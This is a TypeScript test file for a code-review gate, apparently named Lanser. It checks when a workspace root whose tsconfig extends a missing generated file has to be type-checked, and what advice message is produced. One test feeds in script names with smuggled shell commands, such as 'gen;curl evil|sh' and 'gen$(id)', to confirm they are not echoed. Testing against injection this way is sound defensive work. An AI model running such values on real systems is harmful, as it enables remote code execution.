/** A tsconfig.json that extends what a command writes and git does not have: only a change that can affect its root needs it. */
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, expect, test } from "vitest";
import type { Report } from "../../src/model/report.ts";
import { adviceOnMissingFile } from "../../src/servers/typescript/generated.ts";
import { replayRun } from "../../src/traces/replay/recorded-run.ts";
import { serializeReport } from "../../src/verdict/report-bytes.ts";
import { findingLines, reportOf } from "../support/account.ts";
import { type Files, folderOf, temporaryFolder } from "../support/files.ts";
import { gate } from "../support/gate.ts";
import { testByNight } from "../support/night.ts";
import { commit, repositoryOf } from "../support/repository.ts";
import { installedTypescript } from "../support/typescript.ts";

beforeAll(async () => {
  await installedTypescript();
}, 240_000);

const config = 'version: 1\nservers: [{ id: typescript }]\ndependencies: ["site/.svelte-kit"]\n';

const workspace: Files = {
  ".gitignore": ".svelte-kit/\n",
  ".lanser/config.yml": config,
  "package.json": '{ "name": "whole", "private": true, "workspaces": ["site", "rates", "other"] }\n',
  "site/package.json": '{ "name": "site" }\n',
  "site/tsconfig.json": '{ "extends": "./.svelte-kit/tsconfig.json" }\n',
  "site/src/page.ts":
    'import { due } from "@whole/rates";\nimport { name } from "$lib/name";\n\nexport const all = name + due(1);\n',
  "site/src/lib/name.ts": 'export const name = "site";\n',
  "rates/package.json": '{ "name": "@whole/rates" }\n',
  "rates/tsconfig.json": '{ "compilerOptions": { "strict": true } }\n',
  "rates/due.ts": "export const due = (nights: number) => nights * 2;\n",
  "other/package.json": '{ "name": "other" }\n',
  "other/tsconfig.json": '{ "compilerOptions": { "strict": true } }\n',
  "other/one.ts": "export const one = (x: number) => x;\n",
  "other/two.ts": 'import { one } from "./one";\n\nexport const two = one(2);\n',
};

/** A recorded run is replayed on the way and must come to the same bytes. */
async function judged(base: Files, change: Files, before?: (folder: string) => void): Promise<Report> {
  const traceFolder = temporaryFolder();
  const repository = repositoryOf(base, change);
  before?.(repository);
  const report = reportOf(
    await gate(repository, {
      policy: { servers: [], file: undefined, failOn: undefined, where: "actions" },
      traceFolder,
    }),
  );
  const replayed = await replayRun(traceFolder);
  expect(replayed.kind === "report" ? serializeReport(replayed.report) : replayed).toBe(
    serializeReport(report),
  );
  return report;
}

function account(report: Report): readonly string[] {
  return [
    `${report.verdict}: ${report.reasons.map(({ message }) => message).join("; ")}`,
    ...report.servers.map(({ root, head, skipped, ended }) => `${root} ${skipped ?? ended ?? head.files}`),
    ...findingLines(report, { all: true }),
    ...report.limits.filter(({ code }) => code === "unread-root").map(({ message }) => message),
  ];
}

test("a change elsewhere is judged, and the root that was not needed is named", async () => {
  const report = await judged(workspace, {
    "other/one.ts": "export const one = (x: number, y: number) => x + y;\n",
    "other/three.ts": "export const three = 3;\n",
  });
  expect(account(report)).toMatchInlineSnapshot(`
    [
      "fail: 1 new error",
      "other 3",
      "rates same program",
      "site same program",
      "new other/two.ts:3 2554",
      "TypeScript did not check site, because the change does not affect it: site/tsconfig.json:1 names site/.svelte-kit/tsconfig.json, which could not be read: there is no such file. Run \`npx --no-install svelte-kit sync\` in site before the gate, and name site/.svelte-kit in \`dependencies\`",
    ]
  `);
});

test("two roots that were not needed are one limit", async () => {
  const docs: Files = {
    "package.json":
      '{ "name": "whole", "private": true, "workspaces": ["docs", "site", "rates", "other"] }\n',
    "docs/package.json": '{ "name": "docs" }\n',
    "docs/tsconfig.json": '{ "extends": "./.nuxt/tsconfig.json" }\n',
    "docs/page.ts": "export const page = 1;\n",
  };
  const report = await judged({ ...workspace, ...docs }, { "other/three.ts": "export const three = 3;\n" });
  const unread = report.limits.filter(({ code }) => code === "unread-root");
  expect(unread.map(({ count }) => count)).toEqual([2]);
  expect(unread[0]?.message).toMatch(/^TypeScript did not check docs,.*\. The same is true for site$/u);
});

test.each([
  ["no file of the root imports needs no root", '"$lib/name"', false],
  ["a file of the root imports needs it", '"../../other/one.min"', true],
])("a link that %s", async (_, imported, isNeeded) => {
  const repository = repositoryOf({
    ...workspace,
    "site/src/page.ts": `import { one } from ${imported};\n\nexport const two = one(2);\n`,
  });
  symlinkSync("./one.ts", join(repository, "other/one.min.ts"));
  commit(repository, {});
  commit(repository, { "other/one.ts": "export const one = (x: number, y: number) => x + y;\n" });
  const report = reportOf(
    await gate(repository, { policy: { servers: [], file: undefined, failOn: undefined, where: "actions" } }),
  );
  const [verdict = ""] = account(report);
  expect([verdict.startsWith("fail: 1 new error"), verdict.includes("typescript in site")]).toEqual([
    true,
    isNeeded,
  ]);
});

test("a change of what the root imports by the name of a package needs it, and the message has the command", async () => {
  const report = await judged(workspace, {
    "rates/due.ts": "export const due = (nights: number, year: number) => nights * year;\n",
  });
  expect(account(report)).toMatchInlineSnapshot(`
    [
      "inconclusive: typescript in site on base and head: site/tsconfig.json:1 names site/.svelte-kit/tsconfig.json, which could not be read: there is no such file. Run \`npx --no-install svelte-kit sync\` in site before the gate, and name site/.svelte-kit in \`dependencies\`",
      "rates 1",
      "site server-configuration",
      "other same program",
    ]
  `);
});

testByNight("a new file that an alias of the root may lead to needs it", async () => {
  const report = await judged(workspace, { "other/lib/name.ts": "export const name = 1;\n" });
  expect(account(report)).toMatchInlineSnapshot(`
    [
      "inconclusive: typescript in site on base and head: site/tsconfig.json:1 names site/.svelte-kit/tsconfig.json, which could not be read: there is no such file. Run \`npx --no-install svelte-kit sync\` in site before the gate, and name site/.svelte-kit in \`dependencies\`",
      "other 1",
      "site server-configuration",
      "rates same program",
    ]
  `);
});

test("what the root's own configuration takes in beside its folder, or maps an import to, needs it", async () => {
  const named = {
    "site/tsconfig.json": JSON.stringify({
      extends: ["./.svelte-kit/tsconfig.json", "../tsconfig.paths.json"],
      include: ["src", "../shared/**/*.ts"],
    }),
    "tsconfig.paths.json": '{ "compilerOptions": { "paths": { "mapped": ["./lent/main.ts"] } } }\n',
    "site/src/more.ts": 'import "mapped";\n',
    "shared/a.ts": "export {};\n",
    "lent/main.ts": "export {};\n",
  };
  const verdicts: string[] = [];
  for (const path of ["shared/a.ts", "lent/main.ts", "other/one.ts"]) {
    const outcome = await gate(
      repositoryOf({ ...workspace, ...named }, { [path]: "export const more = 1;\n" }),
      {
        policy: { servers: [], file: undefined, failOn: undefined, where: "actions" },
      },
    );
    verdicts.push(
      `${path}: ${reportOf(outcome).servers.find(({ root }) => root === "site")?.skipped ?? "needed"}`,
    );
  }
  expect(verdicts).toEqual(["shared/a.ts: needed", "lent/main.ts: needed", "other/one.ts: same program"]);
});

test("an import by a name that only the absent file can explain needs the root, whatever changes", async () => {
  const importing = (text: string, more: Files = {}): Files => ({
    ...workspace,
    ...more,
    "site/src/page.ts": text,
    "shared/util.ts": "export const f = 1;\n",
  });
  const skippedIn = async (base: Files, change: Files) => {
    const outcome = await gate(repositoryOf(base, change), {
      policy: { servers: [], file: undefined, failOn: undefined, where: "actions" },
    });
    return reportOf(outcome).servers.find(({ root }) => root === "site")?.skipped ?? "needed";
  };
  const bare = importing('import { f } from "#core";\n\nexport const g = f;\n');
  const change = { "shared/util.ts": "export const f = 'other';\n" };
  expect(await skippedIn(bare, change)).toBe("needed");
  // What is no source needs nothing still.
  expect(await skippedIn(bare, { "README.md": "# One\n" })).toBe("same program");
  const known = importing(
    'import "node:fs";\nimport "vue/x";\nimport "@whole/rates";\nimport "$lib/name";\nimport "#own";\n',
    {
      "site/package.json": JSON.stringify({
        name: "site",
        dependencies: { vue: "3.0.0" },
        imports: { "#own": "./src/lib/name.ts" },
      }),
    },
  );
  expect(await skippedIn(known, change)).toBe("same program");
});

testByNight("with the file there the root is checked by it", async () => {
  const report = await judged(
    workspace,
    { "site/src/lib/name.ts": "export const other = 1;\n" },
    (folder) => {
      mkdirSync(join(folder, "site/.svelte-kit"));
      writeFileSync(
        join(folder, "site/.svelte-kit/tsconfig.json"),
        JSON.stringify({
          compilerOptions: {
            strict: true,
            paths: { "$lib/*": ["../src/lib/*"], "@whole/rates": ["../../rates/due.ts"] },
          },
          include: ["../src/**/*.ts"],
        }),
      );
    },
  );
  expect(account(report)).toMatchInlineSnapshot(`
    [
      "fail: 1 new error",
      "site 2",
      "other same program",
      "rates same program",
      "new site/src/page.ts:2 2305",
    ]
  `);
});

const alone: Files = {
  "package.json": '{ "name": "alone", "scripts": { "codegen": "node codegen.mjs --out ./generated" } }\n',
  ".lanser/config.yml": config,
  "tsconfig.json": '{ "extends": "./generated/tsconfig.json" }\n',
  "one.ts": "export const one = 1;\n",
  "README.md": "# One\n",
  "tool.py": "one = 1\n",
};

test("in a repository of one root a change of prose and of another language needs nothing", async () => {
  const report = await judged(alone, { "README.md": "# Two\n", "tool.py": "two = 2\n" });
  expect(account(report)).toMatchInlineSnapshot(`
    [
      "pass: 1 root skipped, because the change does not affect them",
      ". same program",
      "TypeScript did not check the top folder, because the change does not affect it: tsconfig.json:1 names generated/tsconfig.json, which could not be read: there is no such file. Run \`npm run codegen\` in the top folder before the gate, and name generated in \`dependencies\`",
    ]
  `);
});

test("the message names the project's own script that writes the folder", async () => {
  const report = await judged(alone, { "one.ts": "export const one = 2;\n" });
  expect(account(report)).toMatchInlineSnapshot(`
    [
      "inconclusive: typescript on base and head: tsconfig.json:1 names generated/tsconfig.json, which could not be read: there is no such file. Run \`npm run codegen\` in the top folder before the gate, and name generated in \`dependencies\`",
      ". server-configuration",
    ]
  `);
});

test("a script whose name says more to a shell than a name is not shown", () => {
  const adviceOf = (...names: readonly string[]) => {
    const scripts = Object.fromEntries(names.map((name) => [name, "node codegen.mjs --out generated"]));
    const root = folderOf({ "package.json": JSON.stringify({ scripts }) });
    return adviceOnMissingFile(join(root, "generated/tsconfig.json"), root);
  };
  for (const name of ["gen;curl evil|sh", "gen$(id)", "gen `id`", "--script-shell=x"])
    expect(adviceOf(name)).toMatch(/^\. If a command writes it, run the command/u);
  expect(adviceOf("gen;id", "gen:types-1.x")).toMatch(/^\. Run `npm run gen:types-1\.x` in/u);
});

test("of configurations that extend an edited one their number is said, and the edited one is named", async () => {
  const root = (name: string, extended: string): Files => ({
    [`${name}/tsconfig.json`]: `{ "extends": "${extended}" }\n`,
    [`${name}/a.ts`]: "export const a = 1;\n",
  });
  const base: Files = {
    "tsconfig.base.json": '{ "compilerOptions": { "strict": true } }\n',
    ...root("one", "../tsconfig.base.json"),
    ...root("two", "../one/tsconfig"),
    "apart/tsconfig.json": "{}\n",
    "apart/a.ts": "export const a = 1;\n",
  };
  const head = { "tsconfig.base.json": '{ "compilerOptions": { "strict": false } }\n' };
  const report = await judged({ ...base, ".lanser/config.yml": config }, head);
  expect(report.policyChanges.map(({ files, message }) => [files, message])).toEqual([
    [
      ["tsconfig.base.json"],
      "head changes the server's own configuration; Lanser checked head with base's; 2 other files inherit it",
    ],
  ]);
});
